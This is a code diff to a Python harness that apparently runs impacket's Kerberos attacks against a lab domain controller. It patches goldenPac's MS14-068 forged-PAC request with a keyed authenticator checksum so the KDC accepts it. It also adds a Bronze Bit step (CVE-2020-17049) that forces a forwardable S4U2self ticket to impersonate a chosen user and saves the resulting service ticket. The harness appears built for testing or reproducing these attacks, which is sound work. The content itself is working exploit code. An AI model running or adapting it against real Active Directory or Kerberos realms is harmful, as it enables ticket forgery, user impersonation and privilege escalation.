@@ -1164,15 +1164,32 @@ def load_example(name: str):
     return mod
 
 
-def _authenticator_checksum(gp) -> None:
-    """goldenPac's forged-PAC TGS-REQ has no authenticator checksum (PyKEK's has one); Heimdal
-    would refuse it for that alone (KRB_AP_ERR_INAPP_CKSUM) before looking at the PAC. Add the
-    keyed checksum over the request body (RFC 4120 5.5.1, key usage 6), as
+def _with_checksum(data: bytes, cipher, key) -> bytes:
+    """A TGS-REQ whose AP-REQ authenticator gets the keyed checksum over the request body
+    (RFC 4120 5.5.1, key usage 6) that impacket's example scripts leave out and Heimdal
+    insists on (else KRB_AP_ERR_INAPP_CKSUM before anything else is looked at), as
     impacket_patches.tgs_authenticator_checksum does for impacket's own TGS-REQs."""
     from impacket.krb5.asn1 import AP_REQ, TGS_REQ, Authenticator
     from impacket.krb5.crypto import make_checksum
     from pyasn1.codec.der import decoder, encoder
 
+    req = decoder.decode(data, asn1Spec=TGS_REQ())[0]
+    ap = decoder.decode(req["padata"][0]["padata-value"], asn1Spec=AP_REQ())[0]
+    plain = cipher.decrypt(key, 7, ap["authenticator"]["cipher"].asOctets())
+    auth = decoder.decode(plain, asn1Spec=Authenticator())[0]
+    if auth["cksum"].hasValue():
+        return data
+    ctype = {18: 16, 17: 15, 23: -138}[int(key.enctype)]
+    body = impacket_patches._strip_explicit_tag(encoder.encode(req["req-body"]))
+    auth["cksum"]["cksumtype"] = ctype
+    auth["cksum"]["checksum"] = make_checksum(ctype, key, 6, body)
+    ap["authenticator"]["cipher"] = cipher.encrypt(key, 7, encoder.encode(auth), None)
+    req["padata"][0]["padata-value"] = encoder.encode(ap)
+    return encoder.encode(req)
+
+
+def _authenticator_checksum(gp) -> None:
+    """goldenPac's forged-PAC TGS-REQ gets the authenticator checksum (PyKEK sends one)."""
     keys: dict = {}
     forge = gp.MS14_068.getKerberosTGS
 
@@ -1184,22 +1201,52 @@ def _authenticator_checksum(gp) -> None:
 
     def send_receive(data, domain, kdc_host):
         if keys:
-            cipher, key = keys.pop("cipher"), keys.pop("key")
-            req = decoder.decode(data, asn1Spec=TGS_REQ())[0]
-            ap = decoder.decode(req["padata"][0]["padata-value"], asn1Spec=AP_REQ())[0]
-            plain = cipher.decrypt(key, 7, ap["authenticator"]["cipher"].asOctets())
-            auth = decoder.decode(plain, asn1Spec=Authenticator())[0]
-            ctype = {18: 16, 17: 15, 23: -138}[int(key.enctype)]
-            body = impacket_patches._strip_explicit_tag(encoder.encode(req["req-body"]))
-            auth["cksum"]["cksumtype"] = ctype
-            auth["cksum"]["checksum"] = make_checksum(ctype, key, 6, body)
-            ap["authenticator"]["cipher"] = cipher.encrypt(key, 7, encoder.encode(auth), None)
-            req["padata"][0]["padata-value"] = encoder.encode(ap)
-            data = encoder.encode(req)
+            data = _with_checksum(data, keys.pop("cipher"), keys.pop("key"))
         return send(data, domain, kdc_host)
 
     gp.MS14_068.getKerberosTGS = get_tgs
     gp.sendReceive = send_receive
+
+
+def step_bronze_bit(args):
+    """impacket getST.py -force-forwardable (Bronze Bit, CVE-2020-17049): a TGT for the
+    delegating service (--user), S4U2self for --impersonate (not forwardable: the service has
+    no protocol transition), the ticket decrypted with the service's own key, the forwardable
+    flag set, re-encrypted, and presented in S4U2proxy for --spns[0]."""
+    import logging
+
+    logging.basicConfig(stream=sys.stdout, level=logging.INFO, format="%(message)s")
+    st = load_example("getST")
+    keys: dict = {}
+    get_tgt = st.getKerberosTGT
+
+    def tgt_and_key(*a, **kw):
+        r = get_tgt(*a, **kw)
+        keys.update(cipher=r[1], key=r[3])
+        return r
+
+    send = st.sendReceive
+
+    def send_receive(data, domain, kdc_host):
+        if keys and data[0] == 0x6C:  # [APPLICATION 12] TGS-REQ
+            data = _with_checksum(data, keys["cipher"], keys["key"])
+        return send(data, domain, kdc_host)
+
+    st.getKerberosTGT, st.sendReceive = tgt_and_key, send_receive
+    o = argparse.Namespace(
+        spn=args.spns[0], altservice=None, dmsa=False, impersonate=args.impersonate,
+        additional_ticket=None, ts=False, debug=False, u2u=False, no_s4u2proxy=False,
+        force_forwardable=True, renew=False, hashes=None, no_pass=False, k=False, aesKey=None,
+        dc_ip=DC_IP,
+    )
+    cwd = os.getcwd()
+    os.chdir(WORK)  # getST saves <impersonated>@<spn>.ccache in the working directory
+    try:
+        st.GETST(args.user, args.password, FQDN_DOMAIN, o).run()
+    finally:
+        os.chdir(cwd)
+    saved = sorted(WORK.glob(f"{args.impersonate}@*.ccache"))
+    out(f"getST -force-forwardable finished; ticket saved: {[p.name for p in saved]}")
 
 
 def step_ms14_068(args):
